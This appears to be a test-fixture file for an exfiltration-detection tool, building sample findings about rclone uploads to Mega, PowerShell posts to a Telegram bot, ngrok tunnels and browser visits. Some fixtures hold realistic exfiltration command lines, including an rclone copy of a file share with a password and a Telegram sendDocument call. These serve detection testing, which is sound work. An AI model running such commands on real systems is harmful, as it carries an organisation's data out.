import { unixEpochTicks } from '@weir/kql/types';
import type { Blindness, EvidenceRow, Finding } from '../model/finding.ts';
import type { ScanResult } from '../model/scanResult.ts';
import type { Timeline } from './timeline.ts';

/** Ticks of an ISO time. */
export function at(iso: string): bigint {
  return BigInt(Date.parse(iso)) * 10_000n + unixEpochTicks;
}

const mebibyte = 1_048_576n;

export function evidenceRow(change: Partial<EvidenceRow> = {}): EvidenceRow {
  return {
    timestamp: at('2026-11-21T02:10:04.123Z') + 4567n,
    eventId: 'Cj4x2a1',
    remoteHost: 'gfs262n307.userstorage.mega.co.nz',
    remoteIp: '203.0.113.7',
    remotePort: 443,
    bytesSent: 52_428_800n,
    bytesReceived: 12_700n,
    bytesSource: 'zeek-payload',
    commandLine: 'rclone.exe copy --max-age 2y "\\\\FS-01\\Shares" mega:DATA -q --transfers 7',
    fusion: 'fused',
    fusionConfidence: 0.98,
    ...change,
  };
}

export function finding(change: Partial<Finding> = {}): Finding {
  return {
    id: 'f-0001',
    rule: { id: 'weir.upload-volume', name: 'Large upload to an unsanctioned web service', version: '1.0.0' },
    title: 'rclone.exe on fs-01 sent 1.8 GiB to Mega in 2 h 41 min',
    severity: 'high',
    score: 92,
    reasons: [
      'A file copier, not a browser, sent 270 times what it received',
      'First connection of this device to Mega in 30 days',
      'Outside the working hours of svc_backup',
    ],
    confidence: 'high',
    tactics: ['Exfiltration'],
    techniques: ['T1567.002'],
    firstSeen: at('2026-11-21T02:10:04.123Z') + 4567n,
    lastSeen: at('2026-11-21T04:51:30Z'),
    entities: {
      device: 'fs-01',
      account: 'CORP\\svc_backup',
      accountDomain: '',
      process: 'rclone.exe',
      processFolder: 'C:\\Tools\\rclone.exe',
      processSha256: '0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f',
      parentProcess: 'cmd.exe',
      commandLine:
        'rclone.exe copy --max-age 2y "\\\\FS-01\\Shares" mega:DATA -q --transfers 7 --mega-pass hunter2hunter2',
      destination: 'gfs262n307.userstorage.mega.co.nz',
    },
    service: 'Mega',
    category: 'file-sharing',
    services: [change.service ?? 'Mega'],
    bytesSent: 1_932_735_283n,
    bytesReceived: 7_158_278n,
    bytesKnown: 210,
    bytesSources: ['zeek-payload'],
    connections: 214,
    evidence: {
      count: 214,
      eventIds: Array.from({ length: 214 }, (_, i) => `Cj4x2a${i}`),
      sample: [
        evidenceRow(),
        evidenceRow({
          eventId: 'Cj4x2a9',
          bytesSent: null,
          bytesReceived: null,
          fusion: 'endpoint',
          fusionConfidence: null,
        }),
      ],
    },
    ...change,
  };
}

const telegram = finding({
  id: 'f-0002',
  rule: { id: 'weir.bot-api', name: 'Messages through a chat bot interface', version: '1.2.0' },
  title: 'powershell.exe on wks-17 posted to a Telegram bot 18 times',
  severity: 'medium',
  score: 64,
  confidence: 'medium',
  reasons: ['A script host talks to a bot interface', 'Never seen on any other device'],
  techniques: ['T1567'],
  firstSeen: at('2026-11-21T09:02:00Z'),
  lastSeen: at('2026-11-21T11:40:00Z'),
  entities: {
    device: 'wks-17',
    account: 'CORP\\alice',
    accountDomain: '',
    process: 'powershell.exe',
    processFolder: 'C:\\Tools\\powershell.exe',
    processSha256: '0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f',
    parentProcess: 'cmd.exe',
    commandLine:
      'powershell -c "irm https://api.telegram.org/bot7712345678:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw0/sendDocument"',
    destination: 'api.telegram.org',
  },
  service: 'Telegram',
  category: 'messaging',
  bytesSent: 43n * mebibyte,
  bytesReceived: 190_000n,
  bytesKnown: 18,
  connections: 18,
  evidence: {
    count: 18,
    eventIds: Array.from({ length: 18 }, (_, i) => `Ct${i}`),
    sample: [
      evidenceRow({
        eventId: 'Ct0',
        timestamp: at('2026-11-21T09:02:00Z'),
        remoteHost: 'api.telegram.org',
        remoteIp: '203.0.113.80',
        bytesSent: 2n * mebibyte,
        commandLine: '',
      }),
    ],
  },
});

const unknownBytes = finding({
  id: 'f-0003',
  rule: { id: 'weir.tunnel', name: 'Tunnel client', version: '1.0.0' },
  title: 'ngrok.exe on wks-22 kept a tunnel open for 6 h',
  severity: 'low',
  score: 38,
  confidence: 'low',
  reasons: ['A tunnel client by its original file name', 'No sensor saw its flows, so its volume is unknown'],
  techniques: ['T1567', 'T1572'],
  firstSeen: at('2026-11-21T13:00:00Z'),
  lastSeen: at('2026-11-21T19:05:00Z'),
  entities: {
    device: 'wks-22',
    account: '',
    accountDomain: '',
    process: 'ngrok.exe',
    processFolder: 'C:\\Tools\\ngrok.exe',
    processSha256: '0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f',
    parentProcess: 'cmd.exe',
    commandLine: '',
    destination: 'tunnel.eu.ngrok.com',
  },
  service: 'ngrok',
  category: 'tunnel',
  bytesSent: null,
  bytesReceived: null,
  bytesKnown: 0,
  connections: 3,
  evidence: {
    count: 3,
    eventIds: ['e1', 'e2', 'e3'],
    sample: [evidenceRow({ eventId: 'e1', bytesSent: null, bytesReceived: null, fusion: 'endpoint', remoteIp: '' })],
  },
});

const browser = finding({
  id: 'f-0004',
  rule: { id: 'weir.browser-upload', name: 'Browser visits a file-sharing service', version: '1.0.0' },
  title: 'chrome.exe on wks-03 visited Google Drive',
  severity: 'informational',
  score: 8,
  confidence: 'low',
  reasons: ['A browser without evidence of an upload'],
  firstSeen: at('2026-11-21T08:00:00Z'),
  lastSeen: at('2026-11-21T16:20:00Z'),
  entities: {
    device: 'wks-03',
    account: 'CORP\\bob',
    accountDomain: '',
    process: 'chrome.exe',
    processFolder: 'C:\\Tools\\chrome.exe',
    processSha256: '0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f',
    parentProcess: 'cmd.exe',
    commandLine: '',
    destination: 'drive.google.com',
  },
  service: 'Google Drive',
  category: 'cloud-storage',
  bytesSent: 3n * mebibyte,
  bytesReceived: 640n * mebibyte,
  bytesKnown: 77,
  connections: 77,
  evidence: { count: 77, eventIds: Array.from({ length: 77 }, (_, i) => `Cb${i}`), sample: [] },
});

/** Bytes that were not known of a part of the connections. */
export function blindness(change: Partial<Blindness> = {}): Blindness {
  return {
    need: 'bytes',
    declared: true,
    connections: 120,
    known: 59,
    hosts: { count: 4, most: ['wks-01', 'wks-02', 'wks-03', 'wks-04'], alone: true },
    spans: [{ from: at('2026-11-21T02:00:00Z'), until: at('2026-11-21T05:00:00Z') }],
    ...change,
  };
}

/** A scan with four findings, a skipped and a rejected input, a rule that failed. */
export function scanResult(change: Partial<ScanResult> = {}): ScanResult {
  return {
    complete: false,
    findings: [unknownBytes, finding(), browser, telegram],
    runs: [
      {
        rule: 'weir.upload-volume',
        name: 'Large upload to an unsanctioned web service',
        shape: 'general',
        shapeReason: 'its join looks back further than its group',
        method: '612 ticks of 10 minutes',
        ticks: 612,
        from: at('2026-11-21T00:00:00Z'),
        until: at('2026-11-22T00:00:00Z'),
        resultRows: 41,
        findings: 1,
        blind: [],
      },
      {
        rule: 'weir.bot-api',
        name: 'Messages through a chat bot interface',
        shape: 'row-wise',
        shapeReason: 'each row decides alone',
        method: 'each row once',
        ticks: 288,
        from: at('2026-11-21T00:00:00Z'),
        until: at('2026-11-22T00:00:00Z'),
        resultRows: 18,
        findings: 1,
        blind: [],
      },
      {
        rule: 'weir.mailbox-export',
        name: 'Mailbox export',
        shape: 'general',
        shapeReason: '',
        method: '',
        ticks: 0,
        from: null,
        until: null,
        resultRows: 0,
        findings: 0,
        blind: [],
        error: "Table 'CloudAppEvents' is not among the inputs. Give its export to the scan, or leave the rule out.",
      },
    ],
    inputs: [
      input('logs/zeek/conn.log', 'zeek-conn', 128_402, 128_394, 0, { header: 8 }),
      input('logs/defender/network.ndjson', 'defender-streaming', 51_020, 50_908, 112, {}),
      {
        path: 'logs/capture.pcap',
        format: null,
        records: 0,
        rows: 0,
        rejects: 0,
        rejectsWhy: {},
        ignored: 0,
        ignoredWhy: {},
        reason: 'Packet captures are not read. Run Zeek or Suricata over it and give their logs.',
        complete: false,
      },
    ],
    lacking: [],
    fusion: {
      connections: 51_230,
      withProcess: 47_800,
      withBytes: 50_111,
      withName: 49_002,
      complete: 46_500,
      endpointOnly: 1119,
      flowOnly: 3430,
      fused: 46_681,
      matchableFlows: 48_000,
      matchedFlows: 46_681,
      gaps: [
        { lacks: 'process', why: 'no endpoint log of the device is among the inputs', count: 3430 },
        { lacks: 'name', why: 'the handshake was encrypted and no DNS answer was seen', count: 2228 },
        { lacks: 'bytes', why: 'no sensor saw the flow', count: 1119 },
      ],
      clockOffsets: [
        { device: 'wks-17', day: '2026-11-21', seconds: 3600, pairs: 410 },
        { device: 'fs-01', day: '2026-11-21', seconds: -1, pairs: 9000 },
      ],
      notes: ['Times of wks-17 are one hour ahead of the sensor; matching allowed for it.'],
    },
    nameless: null,
    hidden: [],
    exceptions: [],
    asOf: null,
    dataFrom: at('2026-11-21T00:00:00Z'),
    dataUntil: at('2026-11-22T00:00:00Z'),
    ...change,
  };
}

function input(
  path: string,
  format: string,
  records: number,
  rows: number,
  rejects: number,
  ignoredWhy: Record<string, number>,
): ScanResult['inputs'][number] {
  return {
    path,
    format,
    records,
    rows,
    rejects,
    rejectsWhy: rejects === 0 ? {} : { 'no time': rejects },
    ignored: records - rows - rejects,
    ignoredWhy,
    complete: rejects === 0,
  };
}

/** Everything was read and nothing found. */
export function quietResult(): ScanResult {
  const { inputs, runs, ...rest } = scanResult();
  return {
    ...rest,
    complete: true,
    findings: [],
    inputs: inputs.slice(0, 1),
    runs: runs.slice(0, 2).map((run) => ({ ...run, findings: 0, resultRows: 0 })),
  };
}

/** Nothing could be read. */
export function emptyResult(): ScanResult {
  const none = { connections: 0, withProcess: 0, withBytes: 0, withName: 0, complete: 0, endpointOnly: 0, flowOnly: 0 };
  return {
    complete: true,
    findings: [],
    runs: [],
    inputs: [],
    lacking: [],
    fusion: { ...none, fused: 0, matchableFlows: 0, matchedFlows: 0, gaps: [], clockOffsets: [], notes: [] },
    nameless: null,
    hidden: [],
    exceptions: [],
    asOf: null,
    dataFrom: null,
    dataUntil: null,
  };
}

/** Every text of the result becomes `text`, the ids aside. */
export function hostileResult(text: string): ScanResult {
  const hostile = (f: Finding): Finding => ({
    ...f,
    rule: { id: text, name: text, version: text },
    title: text,
    reasons: [text],
    tactics: [text],
    entities: {
      device: text,
      account: text,
      accountDomain: text,
      process: text,
      processFolder: text,
      processSha256: text,
      parentProcess: text,
      commandLine: text,
      destination: text,
    },
    service: text,
    category: text,
    services: [text, `${text} too`],
    bytesSources: [text, `${text}-ip`],
    evidence: {
      ...f.evidence,
      sample: [
        evidenceRow({
          eventId: text,
          remoteHost: text,
          remoteIp: text,
          commandLine: text,
          fusion: text,
          bytesSource: text,
        }),
      ],
    },
  });
  const result = scanResult();
  return {
    ...result,
    findings: result.findings.map(hostile),
    runs: result.runs.map((run) => ({
      ...run,
      rule: text,
      name: text,
      method: text,
      shapeReason: text,
      blind: [blindness({ hosts: { count: 9, most: [text], alone: true } })],
      ...(run.error && { error: text }),
    })),
    inputs: result.inputs.map((i) => ({
      ...i,
      path: text,
      ...(i.reason && { reason: text }),
      rejectsWhy: { [text]: 1 },
      ignoredWhy: { [text]: 1 },
    })),
    fusion: {
      ...result.fusion,
      notes: [text],
      gaps: [{ lacks: 'bytes', why: text, count: 1 }],
      clockOffsets: [{ device: text, day: text, seconds: 60, pairs: 2 }],
    },
  };
}

/** Many findings over many devices and services. */
export function manyFindings(n: number): ScanResult {
  const services = [
    'Mega',
    'Telegram',
    'Dropbox',
    'Google Drive',
    'Pastebin',
    'ngrok',
    'Amazon S3',
    'GitHub',
    'WeTransfer',
  ];
  const levels = ['high', 'medium', 'low', 'informational'] as const;
  const findings = Array.from({ length: n }, (_, i) =>
    finding({
      id: `f-${String(i).padStart(4, '0')}`,
      severity: levels[i % 4] ?? 'low',
      score: 95 - (i % 90),
      title: `rclone.exe on wks-${i % 13} sent data to ${services[i % 9]}`,
      service: services[i % 9] ?? '',
      bytesSent: i % 7 === 0 ? null : BigInt(i + 1) * 7n * mebibyte,
      bytesKnown: i % 7 === 0 ? 0 : 210,
      entities: { ...finding().entities, device: `wks-${i % 13}`, account: `CORP\\user${i % 5}` },
      evidence: { ...finding().evidence, eventIds: [`c${i}a`, `c${i}b`] },
    }),
  );
  return scanResult({ findings });
}

/** A day in hours: a quiet working day and an upload at night. */
export function dayTimeline(): Timeline {
  const from = at('2026-11-21T00:00:00Z');
  const hour = 36_000_000_000n;
  const bar = (
    i: number,
    service: string,
    bytesSent: bigint | null,
    connections: number,
    bytesKnown = connections,
  ) => ({
    start: from + BigInt(i) * hour,
    service,
    bytesSent,
    bytesKnown: bytesSent === null ? 0 : bytesKnown,
    connections,
  });
  const bars = [
    bar(2, 'Mega', 900n * mebibyte, 90),
    bar(3, 'Mega', 700n * mebibyte, 84, 80),
    bar(4, 'Mega', 243n * mebibyte, 40),
    bar(9, 'Telegram', 21n * mebibyte, 9),
    bar(10, 'Telegram', 18n * mebibyte, 7),
    bar(11, 'Telegram', 4n * mebibyte, 2),
    ...Array.from({ length: 9 }, (_, i) => bar(8 + i, 'Google Drive', BigInt(5 + ((i * 7) % 11)) * mebibyte, 30)),
    ...Array.from({ length: 9 }, (_, i) => bar(8 + i, 'OneDrive', BigInt(12 + ((i * 5) % 17)) * mebibyte, 60)),
    bar(13, 'ngrok', null, 1),
    ...Array.from({ length: 24 }, (_, i) => bar(i, '', BigInt(1 + (i % 3)) * mebibyte, 200)),
  ];
  return { from, until: from + 24n * hour, binTicks: hour, bars };
}
